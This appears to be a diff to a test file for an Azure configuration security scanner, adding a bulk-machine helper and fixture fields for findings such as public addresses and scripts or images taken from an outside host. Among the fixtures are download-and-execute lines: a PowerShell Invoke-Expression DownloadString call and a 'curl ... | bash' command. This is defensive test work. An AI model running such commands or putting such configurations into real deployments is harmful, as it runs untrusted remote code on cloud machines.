@@ -22,6 +22,7 @@ IMAGE = {"type": "PlatformImage", "publisher": "canonical", "offer": "ubuntu-24_
          "version": "24.04.202611200"}  # fmt: skip
 STRANGER = "https://pipeline.abudhabi.ae"
 """A host that is in the country by its name, and of nobody whom the settings list."""
+HUB = "hub-bank.azure-devices.net"
 CLUSTER = {**HERE, "clusterName": "spark"}
 FETCH = "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://pipeline.abudhabi.ae/a.ps1')"
 CONDA = "channels:\n  - conda-forge\n  - ledger-tools\ndependencies:\n  - numpy=2.3.4\n"
@@ -50,6 +51,13 @@ def machine(**more: object) -> Props:
     """Returns a fleet of machines with a profile."""
     return {**HERE, "fleetName": "batch", "computeProfile": {"baseVirtualMachineProfile": more},
             "vmSizesProfile": [{"name": "Standard_D2s_v5"}]}  # fmt: skip
+
+
+def bulk(**profile: object) -> Props:
+    """Returns a hundred machines that are started at once with a profile."""
+    return {**HERE, "name": "b", "properties": {
+        "capacity": 100, "priorityProfile": {"type": "Regular"}, "vmSizesProfile": [{"name": "Standard_D2s_v5"}],
+        "computeProfile": {"virtualMachineProfile": {}, **profile}}}  # fmt: skip
 
 
 def service(**more: object) -> Props:
@@ -85,7 +93,7 @@ WRITERS = attacks((
 RIGHTS = attacks((
     ("users of an environment own its subscription", ROLES, "devcenter:ProjectEnvironmentType",
      {**HERE, "projectName": "p", "environmentTypeName": "prod", "deploymentTargetId": SUB, "status": "Enabled",
-      "identity": {"type": "SystemAssigned"}, "userRoleAssignments": {PRINCIPAL: {"roles": {OWNER: {}}}}},
+      "identity": {"type": "SystemAssigned"}, "userRoleAssignments": {PRINCIPAL: {"roles": [OWNER]}}},
      "critical", "userRoleAssignments"),
     ("what is denied is only recorded", ESC, "authorization:DenyAssignment",
      {"scope": GROUP, "denyAssignmentId": PRINCIPAL, "denyAssignmentName": "d", "denyAssignmentEffect": "audit",
@@ -150,6 +158,8 @@ OF_STRANGERS = attacks((
          "keyVaultKeyUri": KEY, "crossTenantCmkApplicationId": PRINCIPAL}}}, "critical", "crossTenantCmkApplicationId"),
     ("the machines' image has a program of a stranger", CODE, "virtualmachineimages:VirtualMachineImageTemplate",
      {**HERE, "imageTemplateName": "i", "source": IMAGE, "distribute": [],
+      "identity": {"type": "UserAssigned",
+                   "userAssignedIdentities": [f"{OURS}.ManagedIdentity/userAssignedIdentities/i"]},
       "customize": [{"type": "Shell", "name": "s", "scriptUri": f"{STRANGER}/agent.sh"}]}, "critical",
      "customize.scriptUri"),
     ("nodes of a cluster run a script of a stranger", CODE, "hdinsight:Cluster",
@@ -168,14 +178,12 @@ OF_STRANGERS = attacks((
          "settingName": "FirstLogonCommands", "content": f"<CommandLine>powershell {FETCH}</CommandLine>"}]}}),
      "critical", "additionalUnattendContent"),
     ("machines in bulk run a program when they start", ("FJ-ESC-109",), "computebulkactions:BulkAction",
-     {**RG, "locationName": "uaenorth", "bulkActionName": "b", "properties": {"computeProfile": {
-         "extensions": [{"name": "e", "properties": {"settings": {
-             "commandToExecute": f"curl {STRANGER}/agent.sh | bash"}}}]}}}, "critical", "extensions"),
+     bulk(extensions=[{"name": "e", "properties": {"settings": {
+         "commandToExecute": f"curl {STRANGER}/agent.sh | bash"}}}]), "critical", "extensions"),
     ("machines in bulk have public addresses", ("FJ-EXP-204",), "computebulkactions:BulkAction",
-     {**RG, "locationName": "uaenorth", "bulkActionName": "b", "properties": {"computeProfile": {
-         "virtualMachineProfile": {"networkProfile": {"networkInterfaceConfigurations": [{
-             "name": "n", "properties": {"ipConfigurations": [{"name": "i", "properties": {
-                 "publicIPAddressConfiguration": {"name": "p"}}}]}}]}}}}}, "critical", "publicIPAddressConfiguration"),
+     bulk(virtualMachineProfile={"networkProfile": {"networkInterfaceConfigurations": [{
+         "name": "n", "properties": {"ipConfigurations": [{"name": "i", "properties": {
+             "publicIPAddressConfiguration": {"name": "p"}}}]}}]}}), "critical", "publicIPAddressConfiguration"),
     ("machines of a fleet have public addresses", ("FJ-EXP-204",), "azurefleet:Fleet",
      machine(networkProfile={"networkInterfaceConfigurations": [{
          "name": "n", "properties": {"ipConfigurations": [{"name": "i", "properties": {
@@ -188,11 +196,15 @@ OF_STRANGERS = attacks((
          "condaFile": CONDA, "image": "mcr.microsoft.com/azureml/x@sha256:" + "a" * 64}}, "critical", "condaFile"),
     ("a connector at the site is a program of a stranger", ("FJ-ESC-116",), "iotoperationsmq:DataLakeConnector",
      {**HERE, "mqName": "m", "dataLakeConnectorName": "d", "databaseFormat": "delta", "protocol": "v5",
+      "extendedLocation": {"name": f"{OURS}.ExtendedLocation/customLocations/site", "type": "CustomLocation"},
+      "target": {"localStorage": {"volumeName": "lake"}},
       "image": {"repository": "pipeline.abudhabi.ae/lake", "tag": "1", "pullPolicy": "Always"}}, "critical", "image"),
     ("the agent of a device is a program of a stranger", ESC, "databoxedge:IoTRole",
      {**RG, "deviceName": "d", "name": "r", "kind": "IOT", "hostPlatform": "Linux", "roleStatus": "Enabled",
       "ioTEdgeAgentInfo": {"imageName": "agent", "tag": "1",
-                           "imageRepository": {"imageRepositoryUrl": "pipeline.abudhabi.ae"}}}, "critical",
+                           "imageRepository": {"imageRepositoryUrl": "pipeline.abudhabi.ae", "userName": "u"}},
+      "ioTDeviceDetails": {"deviceId": "d", "ioTHostHub": HUB},
+      "ioTEdgeDeviceDetails": {"deviceId": "e", "ioTHostHub": HUB}}, "critical",
      "ioTEdgeAgentInfo.imageRepository"),
     ("machines of a lab run a script of a public repository", ESC, "devtestlab:Formula",
      {**HERE, "labName": "l", "name": "f", "osType": "Linux", "formulaContent": {
